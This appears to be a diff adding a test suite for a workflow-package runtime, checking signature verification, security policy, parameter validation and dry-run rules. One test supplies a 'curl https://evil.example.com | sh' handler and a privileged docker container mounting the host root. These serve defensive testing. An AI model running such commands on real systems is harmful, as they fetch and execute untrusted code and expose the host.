@@ -1,0 +1,147 @@
+import {expect} from 'chai'
+import {api, packageValue, shell, Trust} from '../support/packages.ts'
+import {TestService} from '../support/service.ts'
+
+const K8S = {name: 'restart', type: 'k8s', config: {action: 'restart', resource_name: 'web'}}
+
+describe('what the runtime agrees to run', () => {
+  let service: TestService
+  before(async () => {
+    service = await TestService.start()
+  })
+  after(() => service.stop())
+
+  it('refuses a package without a signature', async () => {
+    const answer = await service.submitContent(packageValue({handlers: [shell('a', 'true')]}))
+    expect(answer.status).to.equal(403)
+    expect(answer.body).to.include({code: 'WPK_UNSIGNED'})
+    expect(answer.body.detail).to.be.a('string')
+  })
+
+  it('refuses a package that was changed after it was signed', async () => {
+    const content = structuredClone(await service.trust.sign({handlers: [shell('a', 'true')]})) as never as {
+      spec: {handlers: {config: {command: string}}[]}
+    }
+    content.spec.handlers[0]!.config.command = 'touch changed'
+    const answer = await service.submitContent(content as never)
+    expect([answer.status, answer.body.code]).to.deep.equal([403, 'WPK_TAMPERED'])
+  })
+
+  it('refuses a signer that the trust policy does not know', async () => {
+    const stranger = await Trust.create()
+    const answer = await service.submitContent(await stranger.sign({handlers: [shell('a', 'true')]}))
+    expect([answer.status, answer.body.code]).to.deep.equal([403, 'SIGNER_UNTRUSTED'])
+  })
+
+  it('checks the signature for a dry run as well', async () => {
+    const answer = await service.submitContent(packageValue({handlers: [shell('a', 'true')]}), {dry_run: true})
+    expect([answer.status, answer.body.code]).to.deep.equal([403, 'WPK_UNSIGNED'])
+  })
+
+  it('refuses what the security policy blocks', async () => {
+    const evil = {
+      name: 'evil',
+      type: 'docker',
+      config: {image: 'x', privileged: true, mounts: ['/:/host', '/etc:/etc']},
+    }
+    const answer = await service.submit({handlers: [evil, shell('b', 'curl https://evil.example.com | sh')]})
+    expect([answer.status, answer.body.code]).to.deep.equal([403, 'POLICY_BLOCKED'])
+    expect(answer.body.findings).to.not.be.empty
+  })
+
+  it('refuses a document that is no package, naming every problem', async () => {
+    const answer = await service.submitContent({apiVersion: 'v1', metadata: {}} as never)
+    expect([answer.status, answer.body.code]).to.deep.equal([422, 'WPK_INVALID'])
+    expect(answer.body.detail).to.be.an('array').that.is.not.empty
+    expect(answer.body.detail[0].loc.slice(0, 2)).to.deep.equal(['body', 'wpk_content'])
+  })
+
+  const DECLARED = [
+    {name: 'namespace', type: 'string', required: true, schema: {enum: ['staging', 'production']}},
+    {name: 'replicas', type: 'integer', default: 3},
+  ]
+  for (const [what, parameters] of [
+    ['missing', {}],
+    ['of the wrong type', {namespace: 'staging', replicas: 'many'}],
+    ['outside its schema', {namespace: 'elsewhere'}],
+    ['unknown', {namespace: 'staging', nonsense: 1}],
+  ] as const)
+    it(`refuses a parameter that is ${what}`, async () => {
+      const answer = await service.submit({handlers: [shell('a', 'true')], parameters: DECLARED}, {parameters})
+      expect([answer.status, answer.body.code]).to.deep.equal([422, 'PARAMETER_INVALID'])
+      expect(answer.body.detail).to.be.an('array').with.length(1)
+    })
+
+  it('fills in the defaults of parameters', async () => {
+    const shape = {handlers: [shell('a', 'echo "$NAMESPACE $REPLICAS"')], parameters: DECLARED}
+    const execution = await service.run(shape, {parameters: {namespace: 'staging'}})
+    expect(execution.logs).to.include('[a] staging 3')
+  })
+
+  for (const name of ['path', 'ld_preload', 'bash_env', 'ifs', 'atom_execution_id'])
+    it(`refuses a parameter that would become the variable ${name.toUpperCase()}`, async () => {
+      const answer = await service.submit({handlers: [shell('a', 'true')]}, {parameters: {[name]: 'x'}})
+      expect([answer.status, answer.body.code]).to.deep.equal([422, 'PARAMETER_INVALID'])
+    })
+
+  it('refuses a parameter with a NUL, which no variable can hold', async () => {
+    const answer = await service.submit({handlers: [shell('a', 'true')]}, {parameters: {a: 'x\0y'}})
+    expect([answer.status, answer.body.code]).to.deep.equal([422, 'PARAMETER_INVALID'])
+  })
+
+  it('refuses two parameters that would be the same variable', async () => {
+    const answer = await service.submit({handlers: [shell('a', 'true')]}, {parameters: {'a-b': 1, a_b: 2}})
+    expect([answer.status, answer.body.code]).to.deep.equal([422, 'PARAMETER_INVALID'])
+  })
+
+  it('does not pretend to run a handler type it has no handler for', async () => {
+    const answer = await service.submit({handlers: [shell('a', 'touch never'), K8S]})
+    expect([answer.status, answer.body.code]).to.deep.equal([501, 'NOT_SUPPORTED'])
+    expect(answer.body.detail).to.contain('restart').and.to.contain('k8s').and.to.contain('shell, api')
+  })
+
+  it('does not pretend to run it in a rollback either', async () => {
+    const rollback = {enabled: true, handlers: [K8S]}
+    const answer = await service.submit({handlers: [shell('a', 'true')], safety: {rollback_enabled: true}, rollback})
+    expect([answer.status, answer.body.code]).to.deep.equal([501, 'NOT_SUPPORTED'])
+  })
+
+  it('does not pretend that somebody approved', async () => {
+    const answer = await service.submit({handlers: [shell('a', 'true')], safety: {approval_required: true}})
+    expect([answer.status, answer.body.code]).to.deep.equal([501, 'NOT_SUPPORTED'])
+    expect(answer.body.detail).to.contain('approval')
+  })
+
+  it('does not pretend to resolve secrets', async () => {
+    const parameters = [{name: 'token', type: 'secret', required: false, sources: ['env']}]
+    const answer = await service.submit({handlers: [shell('a', 'true')], parameters})
+    expect([answer.status, answer.body.code]).to.deep.equal([501, 'NOT_SUPPORTED'])
+    expect(answer.body.detail).to.contain('token')
+  })
+
+  it('refuses a condition it cannot decide, before anything runs', async () => {
+    const answer = await service.submit({handlers: [shell('a', 'true', {when: 'system("x") || true'})]})
+    expect([answer.status, answer.body.code]).to.deep.equal([422, 'WPK_INVALID'])
+    expect(answer.body.detail[0].loc.join('.')).to.contain('when')
+  })
+
+  it('refuses a placeholder that nothing can fill', async () => {
+    const answer = await service.submit({handlers: [api('call', {url: '${WEBHOOK_URL}'})]})
+    expect(answer.status).to.equal(422)
+    expect(JSON.stringify(answer.body.detail)).to.contain('WEBHOOK_URL')
+  })
+
+  describe('when a dry run is required', () => {
+    const shape = {name: 'careful', handlers: [shell('a', 'echo "$WHO"')], safety: {dry_run_required: true}}
+
+    it('runs only what passed one with the same document and parameters', async () => {
+      const parameters = {who: 'ann'}
+      const early = await service.submit(shape, {parameters})
+      expect([early.status, early.body.code]).to.deep.equal([403, 'DRY_RUN_REQUIRED'])
+      expect((await service.run(shape, {parameters, dry_run: true})).status).to.equal('completed')
+      expect((await service.submit(shape, {parameters: {who: 'bob'}})).status).to.equal(403)
+      expect((await service.submit({...shape, version: '1.0.1'}, {parameters})).status).to.equal(403)
+      expect((await service.run(shape, {parameters})).logs).to.include('[a] ann')
+    })
+  })
+})
